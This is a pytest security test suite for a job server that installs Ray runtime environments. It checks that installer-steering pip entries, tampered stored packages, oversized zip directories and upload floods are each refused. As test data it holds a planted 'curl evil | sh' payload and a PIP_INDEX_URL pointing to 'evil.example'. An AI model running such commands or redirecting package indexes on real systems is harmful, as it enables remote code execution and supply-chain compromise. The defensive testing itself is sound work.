"""Attacks on uploaded code and on the environment Ray installs for a job, made the way
an attacker would: over HTTP against a real server (SQLite, no Ray: jobs stay QUEUED),
with the store opened in this process to start an attempt the way the server does.

- runtime_env entries that steer Ray's package installer (a newline in a pip entry, an
  index variable in env_vars, a direct URL reference): 422 naming the entry;
- a package rewritten in storage after its upload (jobs can write there): never
  described, never counted as stored, and an attempt fails before Ray sees it;
- a zip whose central directory claims hundreds of thousands of entries: refused
  before it is parsed, with the server's peak memory flat;
- more uploads at once than the server takes: 429 with Retry-After.
"""

from __future__ import annotations

import threading
import time

import httpx
import pytest

from api.client import Client
from api.schemas import FailureCause, JobStatus
from bench.harness import attacks, code_attacks
from bench.harness.code_attacks import INSTALLER_ATTACKS, job
from bench.harness.jobstore import set_columns

MAX_FILES, MAX_BYTES, UPLOADS = 30, 16 * 2**20, 2


@pytest.fixture(scope="module")
def target(tmp_path_factory):
    env = {
        "RAYDOCK_CODE_MAX_FILES": str(MAX_FILES),
        "RAYDOCK_CODE_MAX_BYTES": str(MAX_BYTES),
        "RAYDOCK_MAX_CONCURRENT_UPLOADS": str(UPLOADS),
        "RAYDOCK_PIP_ALLOWED_HOSTS": "wheels.internal.example",
        "RAYDOCK_CODE_ROOT": "",
    }
    target = attacks.start_target(tmp_path_factory.mktemp("code-attacks"), **env)
    yield target
    target.stop()


@pytest.fixture(scope="module")
def uploaded(target) -> str:
    sha, r = code_attacks.upload(target.url, code_attacks.package())
    assert r.status_code == 201, r.text
    return sha


@pytest.mark.parametrize("what,runtime_env", INSTALLER_ATTACKS, ids=[a[0] for a in INSTALLER_ATTACKS])
def test_installer_cannot_be_steered(target, uploaded, what, runtime_env):
    http = httpx.Client(base_url=target.url, timeout=30)
    before = http.get("/v1/jobs").json()["total"]
    r = http.post("/v1/jobs", json=job(uploaded, **runtime_env))
    assert r.status_code == 422, r.text
    err = r.json()["error"]
    assert err["code"] in ("runtime_env_invalid", "env_var_not_allowed"), err
    named = next(iter(runtime_env.get("env_vars") or {}), None)
    if named:
        assert err["code"] == "env_var_not_allowed" and named in err["message"], err
        assert err["details"][0]["loc"][-1] == named
    assert http.get("/v1/jobs").json()["total"] == before


def test_plain_requirements_and_allowed_hosts_still_go(target, uploaded):
    fine = {
        "pip": ["numpy==2.1", "torch>=2.3; python_version >= '3.10'", "n @ https://wheels.internal.example/n.whl"],
        "env_vars": {"PYTHONUNBUFFERED": "1", "MY_PIP_INDEX_URL": "x", "WANDB_MODE": "offline"},
    }
    r = httpx.post(f"{target.url}/v1/jobs", json=job(uploaded, **fine), timeout=30)
    assert r.status_code == 202, r.text
    assert httpx.post(f"{target.url}/v1/jobs/{r.json()['id']}/cancel").json()["status"] == "CANCELLED"


def test_package_rewritten_in_storage_is_never_run(target):
    """A job writes its own code over another's package in <storage>/_code/: the server
    no longer calls it stored, will not describe it, and the victim's attempt fails
    USER_CODE before anything reaches Ray. Uploading the real bytes restores it."""
    body = code_attacks.package({"main.py": b"def train(config):\n    print('victim')\n"})
    sha, r = code_attacks.upload(target.url, body)
    assert r.status_code == 201, r.text
    victim = httpx.post(f"{target.url}/v1/jobs", json=job(sha), timeout=30)
    assert victim.status_code == 202, victim.text

    evil = code_attacks.package({"main.py": b"import os\ndef train(config):\n    os.system('curl evil | sh')\n"})
    code_attacks.stored_package(target, sha).write_bytes(evil)

    assert httpx.head(f"{target.url}/v1/code/{sha}").status_code == 404  # the SDK uploads the real bytes again
    described = httpx.get(f"{target.url}/v1/code/{sha}")
    assert described.status_code == 409 and described.json()["error"]["code"] == "code_package_altered"
    second = httpx.post(f"{target.url}/v1/jobs", json=job(sha), timeout=30)
    assert second.status_code == 422 and second.json()["error"]["code"] == "code_package_not_found"

    prepared = target.service.monitor.attempts.prepare(victim.json()["id"])
    assert prepared is None
    failed = target.service.reads.get(victim.json()["id"])
    assert failed.status == JobStatus.FAILED and failed.failure_cause == FailureCause.USER_CODE
    assert failed.error.startswith("code_package_altered:") and "changed in storage" in failed.error

    again = httpx.put(f"{target.url}/v1/code/{sha}", content=body, timeout=30)
    assert again.status_code in (200, 201), again.text
    assert code_attacks.stored_package(target, sha).read_bytes() == body
    assert httpx.get(f"{target.url}/v1/code/{sha}").status_code == 200


def test_huge_central_directory_is_refused_before_it_is_parsed(target):
    """16 MiB of minimal directory records (322,638 claimed entries, zip64): before the
    fix the server built an object per record (+100 MiB) to find it over 30 files."""
    body = code_attacks.huge_directory_zip(MAX_BYTES - 1024)
    r, grew = code_attacks.upload_peak_growth_mib(target, body)
    print(f"\npeak server memory growth over a {len(body) / 2**20:.0f} MiB directory upload: +{grew:.1f} MiB")
    assert r.status_code == 422, r.text
    assert r.json()["error"]["code"] == "code_too_large" and "RAYDOCK_CODE_MAX_FILES" in r.json()["error"]["message"]
    assert grew < 24, f"+{grew:.1f} MiB"
    assert httpx.get(f"{target.url}/healthz").status_code == 200


def test_uploads_past_the_bound_get_429(target):
    body = code_attacks.package({"main.py": b"x = 1\n" * 50_000})
    held = code_attacks.hold_uploads(target, UPLOADS, body)
    try:
        sha, refused = code_attacks.upload(target.url, body)
        assert refused.status_code == 429, refused.text
        assert refused.json()["error"]["code"] == "too_many_uploads"
        assert int(refused.headers["Retry-After"]) > 0
        assert httpx.get(f"{target.url}/healthz").status_code == 200
    finally:
        code_attacks.release(held)
    incoming = target.server.data_dir / "code-incoming"
    for _ in range(200):  # the held uploads end once the server sees their clients go
        sha, r = code_attacks.upload(target.url, body)
        if r.status_code != 429:
            break
    assert r.status_code == 201, r.text
    assert not list(incoming.iterdir())


def test_job_stored_before_the_policy_meets_it_when_it_starts(target, uploaded):
    """A job accepted before the installer policy existed (queued, or resumed later)
    with PIP_INDEX_URL in its env_vars: its attempt fails USER_CODE instead of reaching Ray."""
    r = httpx.post(f"{target.url}/v1/jobs", json=job(uploaded, pip=["numpy"]), timeout=30)
    assert r.status_code == 202, r.text
    stored = r.json()["spec"]
    stored["runtime_env"]["env_vars"] = {"PIP_INDEX_URL": "https://evil.example/simple"}
    set_columns(target.service, r.json()["id"], spec=stored)

    assert target.service.monitor.attempts.prepare(r.json()["id"]) is None
    failed = target.service.reads.get(r.json()["id"])
    assert failed.status == JobStatus.FAILED and failed.failure_cause == FailureCause.USER_CODE
    assert failed.error.startswith("env_var_not_allowed:") and "PIP_INDEX_URL" in failed.error


@pytest.mark.slow
def test_sdk_waits_out_a_busy_server(target, tmp_path):
    """While other clients hold every upload slot, Client.upload_code waits the
    server's Retry-After and sends once a slot is free."""
    (tmp_path / "proj").mkdir()
    (tmp_path / "proj" / "main.py").write_text("def train(config):\n    return 'patient'\n")
    held = code_attacks.hold_uploads(target, UPLOADS, code_attacks.package({"main.py": b"y = 2\n" * 50_000}))
    releaser = threading.Timer(2.0, code_attacks.release, args=(held,))
    releaser.start()
    try:
        started = time.monotonic()
        with Client(target.url) as client:
            upload = client.upload_code(tmp_path / "proj")
        waited = time.monotonic() - started
    finally:
        releaser.cancel()
        code_attacks.release(held)
    assert upload.status == 201 and waited >= 2.0
